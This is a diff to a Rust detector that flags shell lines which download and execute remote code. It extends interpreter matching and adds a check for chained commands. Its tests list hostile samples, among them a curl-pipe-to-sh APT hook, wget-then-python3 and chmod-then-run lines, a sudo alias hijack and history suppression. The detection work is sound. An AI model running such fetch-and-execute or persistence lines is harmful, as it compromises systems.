@@ -78,6 +78,7 @@ fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
     let made_to_run = has(&[b"chmod +x", b"chmod 7", b"chmod a+x", b"chmod u+x", b"chmod 0"]);
     if fetches
         && (shell
+            || runs_next(&lower)
             || made_to_run
             || has(&[b"$(curl", b"$(wget", b"`curl", b"`wget", b"<(curl", b"<(wget"]))
     {
@@ -109,19 +110,31 @@ fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
 
 /// Whether output of a command goes into an interpreter.
 fn runs_input(lower: &[u8]) -> bool {
+    lower.split(|byte| *byte == b'|').skip(1).any(is_interpreter)
+}
+
+/// Whether a command after the first one of a line runs a script or a file of the current directory.
+fn runs_next(lower: &[u8]) -> bool {
+    let commands = lower.split(|byte| matches!(byte, b';' | b'&' | b'\n')).skip(1);
+    commands.map(<[u8]>::trim_ascii).any(|command| {
+        command.starts_with(b"./") || (is_interpreter(command) && command.contains(&b' '))
+    })
+}
+
+/// Whether a command is an interpreter: by its name, whatever its path is.
+fn is_interpreter(command: &[u8]) -> bool {
     const INTERPRETERS: [&[u8]; 11] = [
         b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python3", b"perl", b"ruby",
         b"php",
     ];
-    lower.split(|byte| *byte == b'|').skip(1).any(|part| {
-        let words = part.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
-        let mut words = words
-            .skip_while(|word| matches!(*word, b"sudo" | b"env" | b"nohup" | b"setsid" | b"exec"));
-        words.next().is_some_and(|word| {
-            let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
-            let name = name.strip_suffix(b";").unwrap_or(name);
-            INTERPRETERS.contains(&name)
-        })
+    let words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
+    let mut words =
+        words.skip_while(|word| matches!(*word, b"sudo" | b"env" | b"nohup" | b"setsid" | b"exec"));
+    words.next().is_some_and(|word| {
+        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
+        let part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
+        let end = name.iter().position(|byte| !part(byte)).unwrap_or(name.len());
+        name.get(..end).is_some_and(|name| INTERPRETERS.contains(&name))
     })
 }
 
@@ -204,6 +217,8 @@ mod tests {
             "alias sudo='/opt/s'",
             "export HISTFILE=/dev/null",
             "/usr/lib/.x/run &",
+            "APT::Pre-Invoke {\"curl http://a.example|sh\";};",
+            "cd /opt; wget http://a.example/x.py; python3 x.py",
             "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
         ] {
             assert!(of(line).is_some(), "{line}");
@@ -221,6 +236,7 @@ mod tests {
             "0 3 * * * root /usr/local/bin/backup.sh > /tmp/backup.log 2>&1",
             "curl -fsS http://localhost/health || exit 1",
             "alias ll='ls -l'",
+            "curl -fsSL http://a.example/x.tar -o x.tar && tar xf x.tar",
             "echo done >/tmp/done",
             "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
         ] {
